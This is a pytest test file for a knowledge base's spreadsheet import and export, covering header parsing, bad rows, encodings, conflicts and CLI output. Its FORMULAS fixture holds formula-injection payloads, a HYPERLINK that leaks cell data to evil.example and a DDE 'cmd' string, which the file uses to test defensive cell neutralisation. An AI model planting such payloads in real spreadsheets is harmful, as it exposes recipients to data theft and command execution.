"""Spreadsheet import and export against real git repositories and real files."""

from __future__ import annotations

import csv
import datetime as dt
import re
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from kb.cli import main as kb_main
from kb.compose import compose
from kb.parts import BUILT_IN
from kb.search import SearchIndex
from kb.sheet import Sheet
from kb.spreadsheet import (
    ImportReport,
    Skipped,
    SpreadsheetError,
    export_sheet,
    import_sheet,
    neutralise_cell,
    read_rows,
    restore_cell,
)
from kb.starter import shared_parts
from kb.store import ConflictError, ContentStore, Person
from tests.conftest import STARTER, entry_text

IMPORTER = Person("Ingrid Importer", "ingrid@example.com")
START = {
    "refund-status.md": entry_text(
        "Refund status", "Your refund was sent on {{ date }}.",
        phrasings=["where is my money", "still waiting for my refund"],
        tags="[refund]", category="Returns and refunds", owner="tara"),
    "item-arrived-damaged.md": entry_text(
        "Item arrived damaged", "Sorry it arrived damaged.", tags="[delivery]",
        category="Orders and delivery"),
    "_sheet/synonyms.txt": "refund, money back\n",
}


@pytest.fixture
def kb(tmp_path):
    store = ContentStore.create(tmp_path / "content", START, "start")
    sheet = Sheet(store)
    index = SearchIndex(tmp_path / "index", sheet)
    index.open()
    sheet.after_commit = index.catch_up
    yield store, sheet, index
    index.close()


def write_csv(path: Path, rows: list[list[str]], delimiter: str = ",",
              encoding: str = "utf-8") -> Path:
    with open(path, "w", newline="", encoding=encoding) as handle:
        csv.writer(handle, delimiter=delimiter).writerows(rows)
    return path


def write_xlsx(path: Path, rows: list[list]) -> Path:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    workbook.save(path)
    return path


def slugs(sheet: Sheet) -> list[str]:
    return [e.slug for e in sheet.entries()[0]]


def run_import(sheet: Sheet, path: Path, message: str = "Import the old sheet") -> ImportReport:
    return import_sheet(sheet, path, author=IMPORTER, message=message)


# -- import ----------------------------------------------------------------------------


def test_csv_import_creates_entries_in_one_commit(kb, tmp_path):
    store, sheet, _ = kb
    path = write_csv(tmp_path / "old.csv", [
        ["Complaint", "Answer", "Tags", "Category", "Phrasings", "Phone"],
        ["Parcel never arrived", "We will trace it.\r\nThen we refund.", "Delivery; Lost, ",
         "Orders and delivery", "where is my parcel | it never came\nstill nothing",
         "- Say sorry.\n- Trace it."],
        ["Wrong size sent", "We swap it for free.", "", "", "", ""],
        ["Charged twice", "We refund the second charge.", "billing", "Billing", "", ""],
    ])
    before = len(store.history())

    report = run_import(sheet, path)

    assert report.created == ["parcel-never-arrived", "wrong-size-sent", "charged-twice"]
    assert (report.updated, report.unchanged, report.skipped) == ([], 0, [])
    assert report.summary() == "Imported 3 rows: 3 new, 0 updated, 0 unchanged, 0 skipped."
    history = store.history()
    assert len(history) == before + 1  # all rows in one commit
    assert history[0].commit == report.commit == store.head()
    assert history[0].author == IMPORTER
    assert history[0].message == "Import the old sheet"
    assert sorted(store.changes_between(history[1].commit, history[0].commit)) == [
        "charged-twice.md", "parcel-never-arrived.md", "wrong-size-sent.md"]
    parcel = sheet.entry("parcel-never-arrived")
    assert parcel.title == "Parcel never arrived"
    assert parcel.answer == "We will trace it.\nThen we refund.\n"
    assert parcel.phone == "- Say sorry.\n- Trace it.\n"
    assert parcel.tags == ("delivery", "lost")
    assert parcel.phrasings == ("where is my parcel", "it never came", "still nothing")
    assert (parcel.category, parcel.status, parcel.owner) == ("Orders and delivery",
                                                              "published", "")
    plain = sheet.entry("wrong-size-sent")
    assert (plain.phone, plain.phrasings, plain.tags, plain.category) == ("", (), (), "")


def test_loose_header_names_and_utf8_bom(kb, tmp_path):
    _, sheet, _ = kb
    path = write_csv(tmp_path / "loose.csv", [
        ["  COMPLAINT ", "What to say", "Key-words", "Customer words", "Talking points",
         "Section", "Notes"],
        ["Voucher code rejected", "Try it in capitals.", "voucher", "code doesn't work",
         "- Read the code back.", "Billing and payments", "ignored column"],
    ], encoding="utf-8-sig")
    headers, rows = read_rows(path)
    assert headers[0] == "COMPLAINT"
    assert rows == [(2, {
        "complaint": "Voucher code rejected", "answer": "Try it in capitals.",
        "tags": "voucher", "phrasings": "code doesn't work", "phone": "- Read the code back.",
        "category": "Billing and payments"})]

    report = run_import(sheet, path)

    assert report.created == ["voucher-code-rejected"]
    entry = sheet.entry("voucher-code-rejected")
    assert (entry.answer, entry.tags, entry.phrasings, entry.phone, entry.category) == (
        "Try it in capitals.\n", ("voucher",), ("code doesn't work",),
        "- Read the code back.\n", "Billing and payments")


def test_xlsx_import_skips_bad_rows_with_their_row_numbers(kb, tmp_path):
    store, sheet, _ = kb
    path = write_xlsx(tmp_path / "old.xlsx", [
        ["Issue", "Response", "Tags"],                      # row 1
        ["Late delivery", "It is on its way.", "delivery"],  # row 2
        [None, "An answer without a complaint", None],       # row 3
        ["Rude driver", "   ", None],                        # row 4
        [None, None, None],                                  # row 5: blank, ignored
        ["  late   DELIVERY ", "Second copy", None],         # row 6: same as row 2
        ["Box too big", "We use standard sizes.", None],     # row 7
        ["Very long answer", "x" * 20_001, None],            # row 8
        ["Formula mangled", "#NAME?", None],                 # row 9
        ["Bad status", "Fine.", None],                       # row 10 (status below)
    ])
    workbook = load_workbook(path)
    workbook.active["D1"] = "Status"
    workbook.active["D10"] = "archived"
    workbook.save(path)
    before = len(store.history())

    report = run_import(sheet, path)

    assert report.created == ["late-delivery", "box-too-big"]
    assert [s.row for s in report.skipped] == [3, 4, 6, 8, 9, 10]
    reasons = {s.row: s.reason for s in report.skipped}
    assert reasons[3] == "the Complaint cell is empty"
    assert reasons[4].startswith("the Answer cell is empty")
    assert "row 2" in reasons[6]
    assert "20,001 characters" in reasons[8] and "20,000" in reasons[8]
    assert "#NAME?" in reasons[9]
    assert "archived" in reasons[10]
    assert report.summary() == "Imported 2 rows: 2 new, 0 updated, 0 unchanged, 6 skipped."
    assert len(store.history()) == before + 1
    assert sheet.entry("late-delivery").answer == "It is on its way.\n"  # the first one won


def test_header_below_a_title_row_keeps_real_row_numbers(kb, tmp_path):
    _, sheet, _ = kb
    path = write_xlsx(tmp_path / "titled.xlsx", [
        ["Northwind cheat sheet, 2019"],  # row 1
        [],                               # row 2
        ["Complaint", "Answer"],          # row 3
        ["Lost voucher", "We resend it."],  # row 4
        ["", "orphan answer"],            # row 5
    ])
    report = run_import(sheet, path)
    assert report.created == ["lost-voucher"]
    assert report.skipped == [Skipped(5, "the Complaint cell is empty")]


def test_reimport_updates_instead_of_duplicating(kb, tmp_path):
    store, sheet, index = kb
    rows = [["Complaint", "Answer"], ["Parcel never arrived", "We will trace it."]]
    run_import(sheet, write_csv(tmp_path / "a.csv", rows))
    commits = len(store.history())

    again = run_import(sheet, write_csv(tmp_path / "b.csv", rows))
    assert (again.created, again.updated, again.unchanged, again.commit) == ([], [], 1, None)
    assert len(store.history()) == commits  # nothing to say, nothing committed

    # Same complaint in other letter case, and an existing entry by its title:
    # both update, and what the row leaves out (phrasings, owner, tags) is kept.
    changed = run_import(sheet, write_csv(tmp_path / "c.csv", [
        ["Complaint", "Answer"],
        ["PARCEL NEVER ARRIVED", "We trace it today."],
        ["refund status", "Refunds take 5 days."],
    ]))
    assert changed.created == []
    assert changed.updated == ["parcel-never-arrived", "refund-status"]
    assert sorted(slugs(sheet)) == ["item-arrived-damaged", "parcel-never-arrived",
                                    "refund-status"]
    refund = sheet.entry("refund-status")
    assert refund.answer == "Refunds take 5 days.\n"
    assert refund.title == "refund status"
    assert refund.phrasings == ("where is my money", "still waiting for my refund")
    assert (refund.owner, refund.tags, refund.category) == ("tara", ("refund",),
                                                            "Returns and refunds")
    assert index.search("parcel").total == 1


def test_same_slug_is_the_same_complaint(kb, tmp_path):
    _, sheet, _ = kb
    report = run_import(sheet, write_csv(tmp_path / "s.csv", [
        ["Complaint", "Answer"],
        ["Item arrived damaged!", "Updated by slug."],      # slug of an existing entry
        ["Gift card: not working", "Check the PIN."],
        ["Gift card not working?", "Another answer."],      # same slug as row 3
    ]))
    assert report.updated == ["item-arrived-damaged"]
    assert report.created == ["gift-card-not-working"]
    assert report.skipped == [Skipped(
        4, "the same complaint as row 3: both would be the entry 'gift-card-not-working'")]
    assert sheet.entry("item-arrived-damaged").answer == "Updated by slug.\n"


def test_complaints_without_latin_letters_get_their_own_entries(kb, tmp_path):
    _, sheet, _ = kb
    rows = [["Complaint", "Answer"], ["包裹丢失", "我们会追踪。"], ["退款在哪里", "五天内到账。"]]
    first = run_import(sheet, write_csv(tmp_path / "zh.csv", [*rows, ["包裹丢失", "again"]]))
    assert first.created == ["entry", "entry-2"]
    assert first.skipped == [Skipped(4, "the same complaint as row 2 ('包裹丢失')")]
    assert sheet.entry("entry-2").title == "退款在哪里"
    again = run_import(sheet, write_csv(tmp_path / "zh2.csv", rows))
    assert (again.created, again.unchanged) == ([], 2)


def test_imported_text_is_findable_right_after_import(kb, tmp_path):
    _, sheet, index = kb
    assert index.search("zorblax").total == 0
    run_import(sheet, write_csv(tmp_path / "new.csv", [
        ["Complaint", "Answer", "Phrasings"],
        ["Zorblax blender leaks", "Send us a photo of the seal.", "puddle under the jug"],
    ]))
    hits = index.search("zorblax").hits
    assert [h.slug for h in hits] == ["zorblax-blender-leaks"]
    assert index.search("puddle under the jug").hits[0].slug == "zorblax-blender-leaks"
    assert index.commit == sheet.store.head()


def test_a_concurrent_edit_stops_the_import(kb, tmp_path):
    store, sheet, _ = kb
    path = write_csv(tmp_path / "c.csv", [
        ["Complaint", "Answer"], ["Refund status", "From the import."], ["New one", "New."]])

    def edit_meanwhile(rows):
        # Someone saves the entry after the import read the sheet, before it writes.
        current = sheet.entry("refund-status")
        sheet.save_entry(replace(current, answer="From the web.\n"), message="Edit",
                         author=Person("Web", "web@example.com"))
        yield from rows

    head = len(store.history())
    with pytest.raises(ConflictError):
        import_sheet(sheet, path, author=IMPORTER, message="Import", progress=edit_meanwhile)
    assert len(store.history()) == head + 1  # the web edit only
    assert sheet.entry("refund-status").answer == "From the web.\n"
    assert sheet.entry("new-one") is None


def test_huge_cell_is_reported_and_categories_join_existing_ones(kb, tmp_path):
    _, sheet, _ = kb
    path = write_csv(tmp_path / "big.csv", [
        ["Complaint", "Answer", "Category"],
        ["Pasted a whole manual", "word " * 40_000, ""],  # past the csv module's default limit
        ["Refund to old card", "It goes back to the card you paid with.", "returns AND refunds"],
    ])
    report = run_import(sheet, path)
    assert [s.row for s in report.skipped] == [2]
    assert "199,999 characters" in report.skipped[0].reason
    assert sheet.entry("refund-to-old-card").category == "Returns and refunds"


def test_semicolon_delimited_csv(kb, tmp_path):
    _, sheet, _ = kb
    path = write_csv(tmp_path / "semi.csv", [
        ["Complaint", "Answer", "Tags"],
        ["Price dropped after purchase", "We refund the difference, within 14 days.",
         "price, refund"],
    ], delimiter=";")
    report = run_import(sheet, path)
    entry = sheet.entry("price-dropped-after-purchase")
    assert report.created == ["price-dropped-after-purchase"]
    assert entry.answer == "We refund the difference, within 14 days.\n"
    assert entry.tags == ("price", "refund")


def test_tab_delimited_csv(kb, tmp_path):
    _, sheet, _ = kb
    path = write_csv(tmp_path / "tabs.txt", [["Complaint", "Answer"],
                                             ["Coat, too small", "Swap it; free."]],
                     delimiter="\t")
    assert run_import(sheet, path).created == ["coat-too-small"]
    assert sheet.entry("coat-too-small").answer == "Swap it; free.\n"


def test_cp1252_csv(kb, tmp_path):
    _, sheet, _ = kb
    path = write_csv(tmp_path / "win.csv", [
        ["Complaint", "Answer"], ["Colis endommagé", "Désolé – nous renvoyons l’article."]],
        encoding="cp1252")
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")  # really not UTF-8
    run_import(sheet, path)
    entry = sheet.entry("colis-endommag")
    assert entry.title == "Colis endommagé"
    assert entry.answer == "Désolé – nous renvoyons l’article.\n"


def test_missing_answer_column_names_the_headers_seen(kb, tmp_path):
    store, sheet, _ = kb
    path = write_csv(tmp_path / "bad.csv", [["Complaint", "Notes", "Reply text"],
                                            ["Late", "x", "y"]])
    head = store.head()
    with pytest.raises(SpreadsheetError) as caught:
        run_import(sheet, path)
    message = str(caught.value)
    assert "No Answer column found in bad.csv" in message
    assert "'Complaint', 'Notes', 'Reply text'" in message
    assert "What to say" in message and "Response" in message
    assert store.head() == head


@pytest.mark.parametrize("name, content, expected", [
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "old-style Excel file"),
    ("fake.xlsx", b"Complaint,Answer\n", "named like an Excel workbook"),
    ("broken.xlsx", b"PK\x03\x04 not really a zip", "not a readable Excel workbook"),
    ("picture.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "is not a CSV or XLSX file"),
    ("empty.csv", b"", "empty.csv is empty"),
])
def test_files_that_are_not_spreadsheets(tmp_path, name, content, expected):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(SpreadsheetError, match=expected):
        read_rows(path)


def test_refuses_files_over_20_mb(tmp_path):
    path = tmp_path / "huge.csv"
    with open(path, "wb") as handle:
        handle.write(b"Complaint,Answer\n")
        handle.truncate(20 * 1024 * 1024 + 1)
    with pytest.raises(SpreadsheetError, match="the limit is 20 MB"):
        read_rows(path)


def test_missing_file_is_a_spreadsheet_error(tmp_path):
    with pytest.raises(SpreadsheetError, match="Cannot read"):
        read_rows(tmp_path / "nope.csv")


# -- export ----------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_round_trip(kb, tmp_path, suffix):
    store, sheet, index = kb
    draft = replace(sheet.entry("item-arrived-damaged"), status="draft",
                    last_reviewed=dt.date(2026, 3, 1), phone="- Offer a swap.\n",
                    answer="=Sorry: starts like a formula.\n")
    sheet.save_entry(draft, message="Make a draft", author=IMPORTER)
    path = tmp_path / f"out{suffix}"

    assert export_sheet(sheet, path) == 2

    headers, rows = read_rows(path)
    assert headers == ["Complaint", "Answer", "Phone", "Phrasings", "Tags", "Category",
                       "Status", "Owner", "Last reviewed", "Slug"]
    by_slug = {cells["slug"]: cells for _, cells in rows}
    assert by_slug["refund-status"]["phrasings"] == "where is my money; still waiting for my refund"
    assert by_slug["item-arrived-damaged"]["answer"] == "=Sorry: starts like a formula."
    assert by_slug["item-arrived-damaged"]["last_reviewed"] == "2026-03-01"
    if suffix == ".xlsx":  # text starting with "=" must stay text, not become a formula
        ws = load_workbook(path).active
        row = next(r for r in ws.iter_rows(min_row=2) if r[9].value == "item-arrived-damaged")
        assert (row[1].data_type, row[1].value) == ("s", "=Sorry: starts like a formula.")

    head = store.head()
    again = run_import(sheet, path)
    assert (again.created, again.updated, again.unchanged, again.commit) == ([], [], 2, None)
    assert store.head() == head

    # Edit the export as a trainer would, rename a complaint, import it back.
    rows_out = [headers] + [[cells[c] for c in ("complaint", "answer", "phone", "phrasings",
                                                 "tags", "category", "status", "owner",
                                                 "last_reviewed", "slug")] for _, cells in rows]
    for row in rows_out[1:]:
        if row[-1] == "refund-status":
            row[0], row[1] = "Where is my refund", "Refunds take 5 working days."
    edited = write_csv(tmp_path / "edited.csv", rows_out)
    report = run_import(sheet, edited)
    assert (report.created, report.updated, report.unchanged) == ([], ["refund-status"], 1)
    assert sorted(slugs(sheet)) == ["item-arrived-damaged", "refund-status"]
    refund = sheet.entry("refund-status")
    assert (refund.title, refund.answer) == ("Where is my refund",
                                             "Refunds take 5 working days.\n")
    assert sheet.entry("item-arrived-damaged").status == "draft"  # not published by the import
    assert index.search("working days").hits[0].slug == "refund-status"


def test_export_into_an_empty_sheet_keeps_everything(kb, tmp_path):
    _, sheet, _ = kb
    draft = replace(sheet.entry("item-arrived-damaged"), status="draft", owner="olga",
                    last_reviewed=dt.date(2026, 1, 31))
    sheet.save_entry(draft, message="Make a draft", author=IMPORTER)
    path = tmp_path / "all.xlsx"
    export_sheet(sheet, path)
    other = Sheet(ContentStore.create(tmp_path / "other", {"_sheet/synonyms.txt": ""}, "start"))

    report = run_import(other, path)

    assert sorted(report.created) == ["item-arrived-damaged", "refund-status"]
    for slug in report.created:
        mine, theirs = sheet.entry(slug), other.entry(slug)
        assert theirs == mine  # every field: status, owner and review date included
    assert other.entry("item-arrived-damaged").status == "draft"


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Refund")',
    "answer": "=cmd|' /C calc'!A0 is what a bad file holds.",
    "phone": "- Offer a swap.\n- Say sorry.",
    "phrasings": ("@SUM(1+1)", "+1 555 0100 keeps ringing", "'=quoted already"),
    "category": "-minus category",
}


def test_csv_cells_that_look_like_formulas_are_quoted_and_read_back(kb, tmp_path):
    _, sheet, _ = kb
    entry = replace(sheet.entry("refund-status"), **FORMULAS)
    sheet.save_entry(entry, message="Odd text", author=IMPORTER)
    path = tmp_path / "out.csv"
    export_sheet(sheet, path)

    with open(path, newline="", encoding="utf-8-sig") as handle:
        raw = {r[9]: r for r in csv.reader(handle)}["refund-status"]
    # OWASP: a cell a spreadsheet would run as a formula starts with a quote
    assert raw[0].startswith("'=HYPERLINK(") and raw[1].startswith("'=cmd|")
    assert raw[2].startswith("'- Offer") and raw[5] == "'-minus category"
    assert raw[3] == "'@SUM(1+1); +1 555 0100 keeps ringing; '=quoted already"
    for cell in raw:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))

    other = Sheet(ContentStore.create(tmp_path / "other", {"_sheet/synonyms.txt": ""}, "start"))
    run_import(other, path)
    back = other.entry("refund-status")
    for name, value in FORMULAS.items():
        got = getattr(back, name)
        assert (got.strip() if isinstance(got, str) else got) == value
    again = run_import(sheet, path)  # the sheet's own export changes nothing
    assert again.unchanged == 2 and not again.updated


@pytest.mark.parametrize("text", ["=1+1", "+1", "-", "@x", "\tx", "\rx", "'=x", "''+x", "'", "",
                                  "'plain", "plain", "a=b", "==x"])
def test_neutralised_cells_read_back_exactly(text):
    assert restore_cell(neutralise_cell(text)) == text
    assert not neutralise_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


# -- the command line --------------------------------------------------------------------


def test_cli_import_and_export(tmp_path):
    ContentStore.create(tmp_path / "content", START, "start")
    source = write_xlsx(tmp_path / "team.xlsx", [
        ["Complaint", "What to say"],
        ["Late delivery", "It is on its way."],
        ["", "No complaint here"],
        ["Late delivery", "Again"],
    ])
    runner = CliRunner()
    env = {"KB_INSTANCE_DIR": str(tmp_path), "KB_DATA_DIR": None, "KB_INDEX_DIR": None}
    base = ["--data-dir", str(tmp_path / "content"), "--index-dir", str(tmp_path / "index")]

    result = runner.invoke(kb_main, [*base, "import", str(source), "--author", "ingrid"],
                           env=env, catch_exceptions=False)

    assert result.exit_code == 0, result.output
    assert "Imported 1 row: 1 new, 0 updated, 0 unchanged, 2 skipped." in result.output
    assert "row 3: the Complaint cell is empty" in result.output
    assert "row 4: the same complaint as row 2" in result.output
    store = ContentStore(tmp_path / "content")
    latest = store.history()[0]
    assert (latest.message, latest.author.name) == ("Import team.xlsx", "ingrid")
    assert store.read("late-delivery.md") is not None

    out = tmp_path / "export.csv"
    result = runner.invoke(kb_main, [*base, "export", str(out)], env=env,
                           catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert f"Wrote 3 entries to {out}." in result.output
    assert sorted(c["slug"] for _, c in read_rows(out)[1]) == [
        "item-arrived-damaged", "late-delivery", "refund-status"]
    assert (tmp_path / "secret_key").exists()  # the instance folder is tmp_path, not cwd


def _cli_import(tmp_path: Path, *args: str):
    env = {"KB_INSTANCE_DIR": str(tmp_path), "KB_DATA_DIR": None, "KB_INDEX_DIR": None}
    return CliRunner().invoke(
        kb_main, ["--data-dir", str(tmp_path / "content"), "--index-dir",
                  str(tmp_path / "index"), "import", *args], env=env)


def test_cli_import_that_imports_no_row_is_an_error(tmp_path):
    store = ContentStore.create(tmp_path / "content", START, "start")
    head = store.head()
    header_only = write_csv(tmp_path / "empty.csv", [["Complaint", "Answer"]])
    result = _cli_import(tmp_path, str(header_only))
    assert result.exit_code == 1, result.output
    assert result.output.splitlines() == [
        "Error: empty.csv has a header row but no rows under it, so nothing was imported. "
        "Add one row per complaint below the header and import it again."]

    refused = write_csv(tmp_path / "refused.csv", [
        ["Complaint", "Answer"], ["Late parcel", ""], ["", "An answer with no complaint"]])
    result = _cli_import(tmp_path, str(refused))
    assert result.exit_code == 1, result.output
    assert "Imported 0 rows" not in result.output
    assert "  row 2: the Answer cell is empty (complaint 'Late parcel')" in result.output
    assert "  row 3: the Complaint cell is empty" in result.output
    assert result.output.splitlines()[-1] == (
        "Error: No row of refused.csv could be imported, so the sheet was left as it is. "
        "Fix the rows listed and import the file again.")
    assert ContentStore(tmp_path / "content").head() == head


CHECKED_ROWS = [
    ["Complaint", "Answer", "Phone"],
    ["Parcel late", "We are sorry it is late. It will be with you on Friday.", ""],  # row 2
    ["Box smashed", "Please calm down. We will send a new one.", ""],                # row 3
    ["Wrong colour", "Hello {{ custmer_name }}, we will swap it.", ""],              # row 4
    ["Long call", "We will look into it today.", "- " + "word " * 160],              # row 5
]


def test_import_lists_rows_that_check_calls_errors_and_imports_them(kb, tmp_path):
    store, sheet, _ = kb
    sheet.write({"_sheet/placeholders.yml": "customer_name: {label: Customer name}\n"},
                message="The form's fields", author=IMPORTER)
    path = write_csv(tmp_path / "team.csv", CHECKED_ROWS)

    report = run_import(sheet, path)

    assert len(report.created) == 4  # imported: nothing here breaks the sheet
    assert [(f.row, f.title) for f in report.flagged] == [
        (3, "Box smashed"), (4, "Wrong colour"), (5, "Long call")]
    box, colour, call = (f.problems for f in report.flagged)
    assert box == ("tone in the answer: “calm down”: Telling someone to calm down tells them "
                   "their feelings are wrong. Try: I can hear how frustrating this is. Let's "
                   "sort it out together.",)
    assert "“custmer_name” (line 1) is not a known placeholder" in colour[0]
    assert "spoken-length in the phone" in call[0] and "seconds" in call[0]
    assert report.summary().endswith(
        " 3 of them have check errors, listed by row: fix them in kb or in the file "
        "(kb check lists them until then).")
    assert report.row_lines()[0].startswith("row 3 (Box smashed): check error: tone in the")
    # the same file again changes nothing, so nothing new is let in
    assert run_import(sheet, path).flagged == []


def test_cli_import_strict_refuses_a_file_with_check_errors(tmp_path):
    store = ContentStore.create(tmp_path / "content", START, "start")
    head = store.head()
    path = write_csv(tmp_path / "team.csv", CHECKED_ROWS[:3])

    result = _cli_import(tmp_path, "--strict", str(path))

    assert result.exit_code == 1, result.output
    lines = result.output.splitlines()
    assert lines[0].startswith("  row 3 (Box smashed): check error: tone in the answer: "
                               "“calm down”")
    assert lines[-1] == ("Error: 1 row of team.csv has check errors (listed by row), so "
                         "nothing was imported. Fix them and import again, or import without "
                         "--strict and fix them in kb.")
    assert ContentStore(tmp_path / "content").head() == head

    result = _cli_import(tmp_path, str(path))  # without --strict: in, and said so
    assert result.exit_code == 0, result.output
    assert "Imported 2 rows: 2 new" in result.output and "1 of them has check errors" \
        in result.output
    assert "  row 3 (Box smashed): check error: tone in the answer" in result.output
    assert ContentStore(tmp_path / "content").read("box-smashed.md") is not None

    clean = write_csv(tmp_path / "clean.csv", CHECKED_ROWS[:2])
    assert _cli_import(tmp_path, "--strict", str(clean)).exit_code == 0


README = Path(__file__).resolve().parent.parent / "README.md"


def _readme_import_section() -> str:
    text = README.read_text()
    return text[text.index("## Import and export"):text.index("## Limits")]


def test_the_readme_import_example_goes_in_as_the_readme_says(tmp_path):
    example = re.search(r"```csv\n(.*?)```", _readme_import_section(), re.S).group(1)
    path = tmp_path / "example.csv"
    path.write_text(example)
    sheet = Sheet(ContentStore.create(tmp_path / "content", shared_parts(STARTER), "start"))

    report = run_import(sheet, path)

    assert report.created == ["parcel-never-arrived"] and report.flagged == []
    entry = sheet.entry("parcel-never-arrived")
    # several phrasings and tags in one cell each
    assert entry.phrasings == ("where is my parcel", "it never came",
                               "still waiting for my order")
    assert entry.tags == ("delivery", "lost") and entry.category == "Orders and delivery"
    # the greeting and the closing come from the sheet, around the answer
    email = compose(entry, sheet.part("greeting"), sheet.part("closing"),
                    {"customer_name": "Ana", "agent_name": "Sam"})
    assert email.text.startswith("Hi Ana,")
    assert email.text.index("I'm sorry order") < email.text.index("Kind regards,")


def test_the_readme_names_the_placeholders_a_new_sheet_knows():
    sentence = re.search(r"a new sheet, empty or not, knows (.*?)\.\s",
                         _readme_import_section(), re.S).group(1)
    named = set(re.findall(r"`(\w+)`", sentence)) - {"KB_COMPANY_NAME"}
    starter = yaml.safe_load((STARTER / "_sheet" / "placeholders.yml").read_text())
    assert named == set(starter) | BUILT_IN


def test_cli_import_reports_a_bad_file_without_a_traceback(tmp_path):
    ContentStore.create(tmp_path / "content", START, "start")
    bad = write_csv(tmp_path / "bad.csv", [["Topic", "Notes"], ["a", "b"]])
    result = CliRunner().invoke(
        kb_main, ["--data-dir", str(tmp_path / "content"), "--index-dir",
                  str(tmp_path / "index"), "import", str(bad)],
        env={"KB_INSTANCE_DIR": str(tmp_path), "KB_DATA_DIR": None, "KB_INDEX_DIR": None})
    assert result.exit_code == 1
    assert "Error: No Answer column found in bad.csv" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
